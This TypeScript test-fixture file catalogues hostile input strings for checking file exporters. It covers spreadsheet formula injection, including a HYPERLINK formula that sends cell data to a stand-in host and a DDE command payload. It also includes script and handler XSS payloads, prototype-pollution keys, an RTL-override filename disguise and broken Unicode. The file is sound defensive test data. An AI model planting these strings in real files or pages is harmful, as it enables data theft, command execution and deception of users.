/** Text that breaks files made without care: one table for every format, and for the programs that are to read them. */

/** What a text tries, and the text. */
export type Hostile = { readonly tries: string; readonly text: string };

/** Starts that a spreadsheet takes for a formula, in every disguise that is known. */
export const FORMULAS: readonly Hostile[] = [
  { tries: 'a formula', text: '=1+1' },
  { tries: 'a formula that calls out', text: '=HYPERLINK("https://hostile.example/?q="&A1,"open")' },
  { tries: 'a formula with a line below it', text: '=1+1\nnote' },
  { tries: 'a plus', text: '+1+1' },
  { tries: 'a minus', text: '-1+1' },
  { tries: 'an at sign', text: '@SUM(A1:A9)' },
  { tries: 'a full-width equals sign', text: '\uff1d1+1' },
  { tries: 'a small equals sign', text: '\ufe661+1' },
  { tries: 'a minus of mathematics', text: '\u22121+1' },
  { tries: 'a formula behind a tab', text: '\t=1+1' },
  { tries: 'a formula behind a carriage return', text: '\r=1+1' },
  { tries: 'a formula behind a line feed', text: '\n=1+1' },
  { tries: 'a formula behind blanks nobody sees', text: '\u200b \u00a0=1+1' },
  { tries: 'a formula of the data exchange', text: "=cmd|' /C calc'!A0" },
  { tries: 'an apostrophe before a formula', text: "'=1+1" },
];

/** Markup of the page, of XML and of Markdown. */
export const MARKUP: readonly Hostile[] = [
  { tries: 'a script', text: '<script>alert(1)</script>' },
  { tries: 'a picture with a handler', text: '"><img src=x onerror=alert(1)>' },
  { tries: 'to end XML', text: ']]></t></is></c></row></sheetData>' },
  { tries: 'entities', text: '&lt;b&gt; &amp;amp; &#x41; &nbsp;' },
  {
    tries: 'a heading and a link',
    text: '# Heading\n[click](javascript:alert(1)) ![x](https://hostile.example/x.png)',
  },
  { tries: 'a table and a rule', text: 'a | b\n--- | ---\n***' },
  { tries: 'a fence and HTML in a list', text: '```\n1. <b>x</b>\n- y\n~~~' },
  { tries: 'the escapes of spreadsheet files', text: 'a_x000D_b _x005F_ _X0041_' },
  { tries: 'quotes, commas and line ends', text: 'says "co-produced",\r\nnothing; more\r' },
  { tries: 'a name every object has', text: 'constructor' },
  { tries: 'another such name', text: '__proto__' },
];

/** Characters that turn, vanish, or are none.  */
export const CHARACTERS: readonly Hostile[] = [
  { tries: 'an override of writing direction', text: 'invoice\u202egpj.exe' },
  { tries: 'isolates that are never closed', text: '\u2067\u2066\u202bright to left' },
  { tries: 'marks nobody sees', text: 'co\u00adpro\u200bduced\ufeff' },
  { tries: 'controls', text: 'bell\u0007 escape\u001b[31m delete\u007f next\u0085' },
  { tries: 'line ends of Unicode', text: 'one\u2028two\u2029three' },
  { tries: 'letters outside the first plane', text: '\u{1f9d1}\u200d\u{1f9bd} \u{20000} e\u0301' },
  { tries: 'a sign for what could not be read', text: 'a\ufffdb' },
  { tries: 'no character at all', text: 'a\ufffeb\uffffc\ufdd0' },
];

/** What only a caller without the domain's own cleaning could hand over. */
export const BROKEN: readonly Hostile[] = [
  { tries: 'half of a pair, the first', text: 'a\ud83d' },
  { tries: 'half of a pair, the second', text: '\udc00b' },
  { tries: 'a NUL', text: 'a\u0000b' },
  { tries: 'a NUL before a formula', text: '\u0000=1+1' },
];

/** A note of 100 kB in UTF-8, with a formula's start and a pair at every place a cut could fall. */
export const LONG: Hostile = {
  tries: 'a very long text',
  text: `=${'\u{1f9d1}\u{1f9d1}long '.repeat(7_700)}`,
};

/** All that a store can hold. */
export const STORABLE: readonly Hostile[] = [...FORMULAS, ...MARKUP, ...CHARACTERS];

/** All there is. */
export const HOSTILE: readonly Hostile[] = [...STORABLE, ...BROKEN, LONG];
